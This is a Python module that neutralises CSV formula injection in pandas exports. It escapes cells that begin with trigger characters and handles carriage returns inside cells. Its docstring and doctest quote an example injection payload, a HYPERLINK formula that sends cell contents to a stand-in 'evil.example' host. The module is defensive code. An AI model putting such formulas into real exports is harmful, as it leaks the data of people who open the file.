"""CSV cells that a spreadsheet would run as formulas, neutralised.

A CSV export is opened in a spreadsheet more often than in a statistics package. A text
cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice Calc and Google Sheets as a formula (CSV or formula injection: a client code
``=HYPERLINK("https://evil.example?"&A1,"open")`` becomes a live link that leaks the row).
As the OWASP guidance recommends, such a cell is written with a leading apostrophe
(``'=HYPERLINK(...)``), which spreadsheets show as the text it is; the CSV quoting of the
writer (pandas) takes care of separators and quotes inside the cell.

Numbers are never changed: numeric columns are left as they are, and a text cell that is a
plain number (``-1``, ``+2.5``, ``-3e-2``) is not a formula either, so it is kept. Anyone
reading an export back must strip one leading apostrophe before one of the trigger
characters; the text cells of the exports are codes, instrument names and item keys.

A carriage return inside a cell is a second door: Python's CSV writer (and so pandas) does
not quote it when lines end in ``\n``, and a spreadsheet starts a new row there, so the
text after it would be a fresh, unneutralised cell. :func:`formula_safe_csv` quotes every
text cell when any contains a carriage return; otherwise the file is byte-for-byte what
pandas writes.

References
----------
OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
import re
from typing import TextIO

import pandas as pd

__all__ = ["FORMULA_TRIGGERS", "formula_safe_csv", "neutralise_cell", "neutralise_formulas"]

#: Leading characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def _is_text(column: pd.Series) -> bool:
    return column.dtype == object or pd.api.types.is_string_dtype(column.dtype)


def neutralise_cell(value: object) -> object:
    """``value`` with a leading apostrophe if it is text a spreadsheet would run.

    Anything that is not a ``str`` (numbers, dates, missing values) is returned unchanged,
    and so is text that is a plain number.

    Examples
    --------
    >>> neutralise_cell('=HYPERLINK("https://evil.example","x")')
    '\\'=HYPERLINK("https://evil.example","x")'
    >>> neutralise_cell("-3.5"), neutralise_cell(-3.5), neutralise_cell("c-12")
    ('-3.5', -3.5, 'c-12')
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_TRIGGERS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are safe to open in a
    spreadsheet (see the module docstring); numeric columns are not touched."""
    out = frame.copy()
    if type(out) is not type(frame):  # a DataFrame subclass stays itself
        out = type(frame)(out)
    for column in out.columns:
        if _is_text(out[column]):
            out[column] = out[column].map(neutralise_cell)
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out


def formula_safe_csv(frame: pd.DataFrame, out: TextIO | None = None) -> str | None:
    """Write ``frame`` as CSV (no index, ``\n`` line ends) with formulas neutralised.

    Returns the text when ``out`` is ``None``, as :meth:`pandas.DataFrame.to_csv` does.
    """
    safe = neutralise_formulas(frame)
    texts = [safe[c] for c in safe.columns if _is_text(safe[c])]
    has_return = any(t.map(lambda v: isinstance(v, str) and "\r" in v).any() for t in texts)
    quoting = csv.QUOTE_NONNUMERIC if has_return else csv.QUOTE_MINIMAL
    return safe.to_csv(out, index=False, lineterminator="\n", quoting=quoting)
